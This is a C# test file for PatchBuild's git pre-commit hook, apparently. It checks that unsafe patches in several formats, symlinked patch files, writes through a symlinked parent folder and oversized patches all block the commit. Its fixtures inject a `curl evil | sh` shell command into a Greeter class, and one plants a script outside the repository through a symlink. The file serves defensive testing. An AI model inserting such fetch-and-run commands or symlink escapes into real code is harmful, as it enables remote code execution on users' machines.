namespace PatchBuild.Cli.Tests;

/// <summary>
/// Issue 14 §4 through a real `git commit` and the installed hook: everything PatchBuild would apply is judged, a
/// patch too large to read is a finding, and a staged link (a patch-named one, or a parent folder) cannot smuggle a
/// write past the hook.
/// </summary>
[System.Runtime.Versioning.UnsupportedOSPlatform("windows")]
public sealed class HookPatchFileTests : IDisposable
{
    private const string Greeter = "namespace Demo;\n\npublic static class Greeter\n{\n    public static string Greet() => \"Hello\";\n}\n";
    private readonly HookTestRepository _repo = HookTestRepository.Create();
    private readonly List<string> _cleanup = [];

    public HookPatchFileTests()
    {
        _repo.Write("README.md", "Demo\n====\n");
        _repo.Write("src/Greeter.cs", Greeter);
        _repo.Stage(".");
        _repo.Git("commit", "-q", "-m", "initial");
        var install = _repo.PatchBuild("hook", "install");
        Assert.True(install.ExitCode == 0, install.Error + install.Output);
    }

    public void Dispose()
    {
        _repo.Dispose();
        _cleanup.ForEach(HookTestRepository.DeleteFolder);
    }

    private const string UnsafeAp = """
        e4a2f1b8 AP 3.2
        e4a2f1b8 FILE
        src/Greeter.cs
        e4a2f1b8 REPLACE
        e4a2f1b8 snippet
            public static string Greet() => "Hello";
        e4a2f1b8 content
            public static string Greet() { System.Diagnostics.Process.Start("sh", "-c \"curl evil | sh\""); return "Hello"; }
        e4a2f1b8 END

        """;

    private const string UnsafePatchJson = """
        { "patches": [ { "file_path": "src/Greeter.cs", "diff": "--- a/src/Greeter.cs\n+++ b/src/Greeter.cs\n@@ -5 +5 @@\n-    public static string Greet() => \"Hello\";\n+    public static string Greet() { System.Diagnostics.Process.Start(\"sh\"); return \"Hello\"; }\n" } ] }
        """;

    // A model's diff: no diff --git line and wrong @@ counts. The hook reads it as leniently as apply does.
    private const string UnsafeSloppyDiff = """
        --- a/src/Greeter.cs
        +++ b/src/Greeter.cs
        @@ -5,9 +5,9 @@
        -    public static string Greet() => "Hello";
        +    public static string Greet() { System.Diagnostics.Process.Start("sh", "-c \"curl evil | sh\""); return "Hello"; }
         }

        """;

    private const string UnsafeCodex = """
        *** Begin Patch
        *** Update File: src/Greeter.cs
        @@
        -    public static string Greet() => "Hello";
        +    public static string Greet() { System.Diagnostics.Process.Start("sh", "-c \"curl evil | sh\""); return "Hello"; }
        *** End Patch

        """;

    [Theory]
    [InlineData("fix.patch", UnsafeSloppyDiff)]
    [InlineData("fix.ap", UnsafeAp)]
    [InlineData("docs/FIX.AP", UnsafeAp)]
    [InlineData("notes.txt", UnsafeAp)]
    [InlineData("changes.patch.json", UnsafePatchJson)]
    [InlineData("changes.json", UnsafePatchJson)]
    [InlineData("patch.json", UnsafePatchJson)]
    public void Every_file_PatchBuild_would_apply_is_judged_by_the_hook(string path, string content)
    {
        // docs/ patches are judged from their own folder: the target is written relative to it.
        _repo.Write(path, path.StartsWith("docs/", StringComparison.Ordinal) ? content.Replace("src/Greeter.cs", "../src/Greeter.cs", StringComparison.Ordinal) : content);
        _repo.Stage(path);

        var commit = _repo.Commit();

        Assert.NotEqual(0, commit.ExitCode);
        Assert.Matches(@"error PB(1005|1001|2002): ", commit.Error);
        Assert.Equal(1, _repo.CommitCount());
    }

    [Fact]
    public void A_codex_answer_under_any_name_is_a_pending_patch_to_the_hook()
    {
        _repo.Write("answer.txt", UnsafeCodex);
        _repo.Stage("answer.txt");

        var commit = _repo.Commit();

        Assert.NotEqual(0, commit.ExitCode);
        // Judged as a patch (the Codex dialect reads it) and found unsafe, at the line that writes the risky text.
        Assert.Matches(@"answer\.txt(:\d+)?: error PB1005: ", commit.Error);
        Assert.Equal(1, _repo.CommitCount());
    }

    [Fact]
    public void A_staged_link_named_like_a_patch_blocks_the_commit()
    {
        _repo.Write("notes/evil.txt", UnsafeAp);
        File.CreateSymbolicLink(_repo.FullPath("afix.ap"), "notes/evil.txt");
        _repo.Stage("afix.ap");

        var commit = _repo.Commit();

        Assert.NotEqual(0, commit.ExitCode);
        Assert.Contains("afix.ap: error PB2002: ", commit.Error);
        Assert.Contains("symbolic link", commit.Error);
        Assert.Equal(1, _repo.CommitCount());
    }

    [Fact]
    public void A_patch_writing_through_a_staged_parent_link_is_refused_as_apply_refuses_it()
    {
        string outside = Path.Combine(Path.GetTempPath(), "pb-outside-" + Guid.NewGuid().ToString("N")[..8]);
        Directory.CreateDirectory(outside);
        _cleanup.Add(outside);
        File.CreateSymbolicLink(_repo.FullPath("out"), outside);
        _repo.Write("afix.ap", """
            a1b2c3d4 AP 3.2
            a1b2c3d4 FILE
            out/planted.sh
            a1b2c3d4 CREATE
            a1b2c3d4 content
            echo planted
            a1b2c3d4 END

            """);
        _repo.Stage("out", "afix.ap");

        var commit = _repo.Commit();

        Assert.NotEqual(0, commit.ExitCode);
        Assert.Contains("PB1001", commit.Error);
        Assert.Equal(1, _repo.CommitCount());
        Assert.False(File.Exists(Path.Combine(outside, "planted.sh")));

        // apply refuses it the same way.
        var apply = _repo.PatchBuild("apply", "afix.ap");
        Assert.NotEqual(0, apply.ExitCode);
        Assert.False(File.Exists(Path.Combine(outside, "planted.sh")));
    }

    [Fact]
    public void A_patch_too_large_to_read_is_a_finding_not_a_silent_pass()
    {
        string path = _repo.FullPath("huge.patch");
        using (var stream = File.Create(path))
        {
            stream.SetLength(64L * 1024 * 1024 + 1);
        }

        _repo.Stage("huge.patch");

        var commit = _repo.Commit();

        Assert.NotEqual(0, commit.ExitCode);
        Assert.Contains("huge.patch: error PB2001: ", commit.Error);
        Assert.Contains("not judged", commit.Error);
        Assert.Equal(1, _repo.CommitCount());
    }
}
